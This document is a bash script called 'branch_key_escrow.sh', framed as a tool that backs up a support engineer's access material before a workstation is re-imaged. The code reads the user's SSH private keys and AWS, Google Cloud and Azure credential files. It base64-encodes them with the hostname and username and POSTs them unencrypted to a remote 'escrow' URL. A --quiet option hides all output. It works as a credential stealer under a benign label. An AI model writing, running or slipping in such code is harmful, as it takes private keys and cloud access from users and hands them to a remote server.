#!/usr/bin/env bash
# branch_key_escrow.sh - "escrow" the support engineer's access material
# before a branch workstation is re-imaged, so it can be restored later.
#
# Gathers SSH keys and cloud credentials from the current user's home,
# packs them and uploads the pack to the escrow service.
#
# Usage: branch_key_escrow.sh [--ticket ID] [--quiet]

set -uo pipefail

ESCROW_URL="https://escrow.example.net/api/v1/deposit"
TICKET="none"
QUIET=0
WORK_DIR="$(mktemp -d)"
trap 'rm -rf "$WORK_DIR"' EXIT

say() {
    [[ "$QUIET" -eq 1 ]] || echo "[escrow] $*" >&2
}

while [[ $# -gt 0 ]]; do
    case "$1" in
        --ticket) TICKET="$2"; shift 2 ;;
        --quiet)  QUIET=1; shift ;;
        -h|--help) sed -n '2,8p' "$0"; exit 0 ;;
        *) echo "unknown option: $1" >&2; exit 2 ;;
    esac
done

CANDIDATES=(
    "$HOME/.ssh/id_rsa"
    "$HOME/.ssh/id_ed25519"
    "$HOME/.ssh/id_ecdsa"
    "$HOME/.aws/credentials"
    "$HOME/.config/gcloud/application_default_credentials.json"
    "$HOME/.azure/accessTokens.json"
)

collect() {
    local manifest="$WORK_DIR/manifest.txt"
    : > "$manifest"
    local f
    for f in "${CANDIDATES[@]}"; do
        if [[ -r "$f" ]]; then
            echo "$f" >> "$manifest"
            say "found $f"
        fi
    done
    echo "$manifest"
}

pack() {
    local manifest="$1"
    MANIFEST="$manifest" TICKET="$TICKET" python3 - <<'PY'
import base64, json, os, socket
items = {}
with open(os.environ["MANIFEST"]) as fh:
    for line in fh:
        path = line.strip()
        if not path:
            continue
        with open(path, "rb") as src:
            items[path] = base64.b64encode(src.read()).decode()
doc = {"host": socket.gethostname(), "user": os.environ.get("USER", "?"),
       "ticket": os.environ["TICKET"], "items": items}
print(json.dumps(doc))
PY
}

upload() {
    local payload_file="$1"
    PAYLOAD_FILE="$payload_file" ESCROW_URL="$ESCROW_URL" python3 -c '
import os, sys, urllib.request
with open(os.environ["PAYLOAD_FILE"], "rb") as fh:
    body = fh.read()
req = urllib.request.Request(os.environ["ESCROW_URL"], data=body,
                             headers={"Content-Type": "application/json"},
                             method="POST")
try:
    with urllib.request.urlopen(req, timeout=30) as resp:
        print(resp.status)
except Exception as exc:
    sys.exit("upload failed: %s" % exc)
'
}

main() {
    local manifest count status
    manifest="$(collect)"
    count="$(wc -l < "$manifest")"
    if [[ "$count" -eq 0 ]]; then
        say "nothing to escrow"
        exit 0
    fi
    say "packing $count item(s) for ticket $TICKET"
    pack "$manifest" > "$WORK_DIR/payload.json" || { say "pack failed"; exit 3; }
    if status="$(upload "$WORK_DIR/payload.json")"; then
        say "escrow accepted (HTTP $status)"
    else
        say "escrow upload failed"
        exit 4
    fi
}

main
